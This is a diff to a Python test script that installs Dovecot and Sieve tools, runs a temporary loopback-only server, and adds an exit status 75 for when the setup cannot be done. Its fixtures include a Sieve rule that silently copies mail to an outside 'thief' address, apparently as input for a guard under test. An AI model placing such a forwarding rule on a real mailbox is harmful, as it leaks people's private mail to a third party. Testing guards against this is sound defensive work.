@@ -5,7 +5,7 @@
 
 Without a path the guard is built. What is missing is installed by apt (Debian 12: dovecot-managesieved, dovecot-sieve,
 sieve-connect, openssl). Dovecot runs as an instance of its own, in a folder that is removed afterwards, and listens on
-loopback only.
+loopback only. Exit status 75: this machine cannot get such a Dovecot, so nothing was tried.
 """
 import base64, contextlib, grp, json, os, pathlib, pwd, shutil, signal, socket, ssl, subprocess, sys, tempfile, time
 
@@ -16,6 +16,7 @@ PACKAGES = {
 }
 OUTSIDE = 'require "copy"; redirect :copy "thief@gmail.com";\r\n'
 INSIDE = 'redirect "keiri@corp.example";\r\n'
+NOT_TRIED = 75  # EX_TEMPFAIL of sysexits.h
 ASIDE = "/usr/sbin:/usr/local/sbin:/sbin"
 
 
@@ -25,13 +26,18 @@ def install():
     missing = sorted(package for what, package in PACKAGES.items() if not there(what))
     if missing:
         as_root = [] if os.getuid() == 0 else ["sudo"]
-        quiet = dict(check=True, stdout=subprocess.DEVNULL)
-        subprocess.run([*as_root, "apt-get", "update", "-qq"], **quiet)
+        quiet = dict(check=True, stdout=subprocess.DEVNULL, timeout=600)
         apt = ["env", "DEBIAN_FRONTEND=noninteractive", "apt-get", "install", "-y", "-qq", "--no-install-recommends"]
-        subprocess.run([*as_root, *apt, *missing], **quiet)
+        try:
+            subprocess.run([*as_root, "apt-get", "update", "-qq"], **quiet)
+            subprocess.run([*as_root, *apt, *missing], **quiet)
+        except (OSError, subprocess.SubprocessError) as error:
+            print(f"{', '.join(missing)} cannot be installed: {error}")
+            sys.exit(NOT_TRIED)
     version = subprocess.run(["dovecot", "--version"], capture_output=True, text=True, check=True).stdout
     if not version.startswith("2.3"):
-        sys.exit(f"this test configures Dovecot 2.3, here is {version.strip()}")
+        print(f"this test configures Dovecot 2.3, here is {version.strip()}")
+        sys.exit(NOT_TRIED)
     return version.split()[0]
 
 
